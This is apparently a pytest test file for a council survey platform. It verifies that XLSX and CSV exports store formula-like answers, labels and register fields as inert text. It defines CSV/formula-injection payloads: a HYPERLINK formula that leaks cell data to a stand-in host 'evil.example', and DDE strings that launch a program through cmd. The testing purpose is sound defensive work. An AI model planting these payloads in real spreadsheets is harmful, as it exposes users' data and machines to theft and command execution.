"""Every spreadsheet and CSV file the platform writes keeps formula-like answers and labels as plain text."""

from __future__ import annotations

import csv
import io

import pytest

from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.reports.builds import run_build
from app.models import Council, Report, ReportStatus
from app.reports.requests import request_report
from tests.fixtures.councils import SECRETARY

pytestmark = pytest.mark.usefixtures("english_by_default")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
NEGATIVE = "-2+3"
#: staff-written labels of FORMULA_SURVEY (tests/fixtures/surveys.py) in Finnish
LABELS = ("=1+2 Huomio", "@Laji", "+Tavallinen", "-Outo")
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")
NUMBER_CHARACTERS = set("0123456789 +-().,")


def _runnable(cell: str) -> bool:
    """Whether a spreadsheet program could run this CSV cell: digits and signs alone call nothing."""
    return (cell.startswith(("\t", "\r")) or cell.lstrip().startswith(RUNNABLE)) \
        and not set(cell) <= NUMBER_CHARACTERS


def _xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _assert_text_cells(data: bytes, expected: tuple[str, ...]) -> None:
    cells = _xlsx_cells(data)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for value in expected:
        found = [cell for cell in cells if isinstance(cell.value, str) and value in cell.value]
        assert found, f"{value!r} is not in the workbook"
        assert all(cell.data_type == "s" for cell in found), value


def _csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    header = text.split("\r\n", 1)[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _assert_csv_prefixed(data: bytes, expected: tuple[str, ...]) -> None:
    cells = [cell for row in _csv_rows(data) for cell in row]
    assert not [cell for cell in cells if _runnable(cell)]
    for value in expected:
        assert any(cell == "'" + value or (cell.startswith("'") and value in cell) for cell in cells), value


def test_report_xlsx_and_csv_keep_an_anonymous_visitors_formulas_as_text(app, open_survey, answer_anonymously):
    survey = open_survey()
    answer_anonymously(survey, {"q_remark": HYPERLINK, "q_kind": "other", "q_kind__other": DDE})
    answer_anonymously(survey, {"q_remark": NEGATIVE, "q_kind": "other", "q_kind__other": PLUS})
    answer_anonymously(survey, {"q_remark": "Tavallinen vastaus", "q_kind": "plain"})

    with app.app_context():
        council = db.session.scalar(select(Council).where(Council.slug == survey.council_slug))
        report, needs_build = request_report(council, "survey", {"language": "fi", "formats": ["xlsx", "csv"],
                                                                    "survey_id": survey.id}, None)
        db.session.commit()
        if needs_build:
            run_build(report.id)
        db.session.expire_all()
        report = db.session.get(Report, report.id)
        assert report.status is ReportStatus.DONE, report.error
        files = {artefact.format: artefact.data for artefact in report.artefacts}

    _assert_text_cells(files["xlsx"], (HYPERLINK, DDE, PLUS, NEGATIVE, LABELS[0], LABELS[1], LABELS[2]))
    data_sheet = load_workbook(io.BytesIO(files["xlsx"]))["Data"]
    assert HYPERLINK in [cell.value for row in data_sheet.iter_rows() for cell in row]
    _assert_csv_prefixed(files["csv"], (HYPERLINK, DDE, PLUS))
    assert NEGATIVE in [cell for row in _csv_rows(files["csv"]) for cell in row]


def test_survey_export_keeps_formulas_in_answers_and_labels_as_text(app, open_survey, answer_anonymously,
                                                                    staff_client):
    survey = open_survey()
    answer_anonymously(survey, {"q_remark": HYPERLINK, "q_kind": "other", "q_kind__other": DDE})
    answer_anonymously(survey, {"q_remark": NEGATIVE, "q_kind": "odd"})
    client = staff_client(SECRETARY)
    url = f"/staff/{survey.council_slug}/surveys/{survey.id}/export"

    with client.get(url, query_string={"file_format": "xlsx", "language": "fi"}) as xlsx:
        assert xlsx.status_code == 200
        data = xlsx.get_data()
    _assert_text_cells(data, (HYPERLINK, DDE, LABELS[0], LABELS[1], "-Outo"))
    cells = {cell.value for cell in _xlsx_cells(data)}
    assert HYPERLINK in cells and "'" + HYPERLINK not in cells  # text cells need no apostrophe

    exported = client.get(url, query_string={"file_format": "csv", "language": "fi"})
    assert exported.status_code == 200
    _assert_csv_prefixed(exported.data, (HYPERLINK, DDE, "-Outo"))
    # Headings carry the question's number before the staff's label, so they cannot start a formula either.
    assert "1. " + LABELS[0] in [cell for row in _csv_rows(exported.data) for cell in row]


def test_register_export_keeps_formulas_as_text_and_phone_numbers_as_written(app, staff_client):
    from app.models import Association

    with app.app_context():
        council = db.session.scalar(select(Council).where(Council.slug == "raakkyla"))
        db.session.add(Association(council_id=council.id, name=HYPERLINK, municipality_code="707", sector="village",
                                   email="kaava@example.fi", contact_person=DDE, phone="+358 40 123 4567",
                                   language="fi"))
        db.session.commit()
    client = staff_client(SECRETARY)

    xlsx = client.get("/staff/raakkyla/associations/export.xlsx")
    assert xlsx.status_code == 200
    _assert_text_cells(xlsx.data, (HYPERLINK, DDE))

    exported = client.get("/staff/raakkyla/associations/export.csv")
    assert exported.status_code == 200
    cells = [cell for row in _csv_rows(exported.data) for cell in row]
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    assert "+358 40 123 4567" in cells  # a phone number runs nothing and keeps its form
